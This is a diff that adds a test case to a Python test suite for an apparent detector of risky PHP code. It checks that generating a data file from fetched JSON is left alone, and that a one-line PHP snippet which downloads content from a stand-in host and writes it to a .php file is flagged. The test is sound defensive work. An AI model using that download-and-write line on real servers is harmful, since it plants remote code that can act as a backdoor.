@@ -237,3 +237,13 @@ def test_points_at(sure, source, mark):
 )
 def test_leaves_alone(sure, source):
     assert sure(source) == set()
+
+
+def test_leaves_alone_a_list_that_is_fetched_and_written_anew():
+    source = (
+        "$all = json_decode(file_get_contents('https://a.example/db.json'), true);"
+        " foreach ($all as $k => $v) { $t .= sprintf('%s => [%s],', $k, implode(',', $v)); }"
+        " file_put_contents(__DIR__ . '/Types.php', '<?php return [' . $t . '];');"
+    )
+    assert sure(source) == set()
+    assert sure("file_put_contents('x.php', implode('', file('https://a.example/x')));") != set()
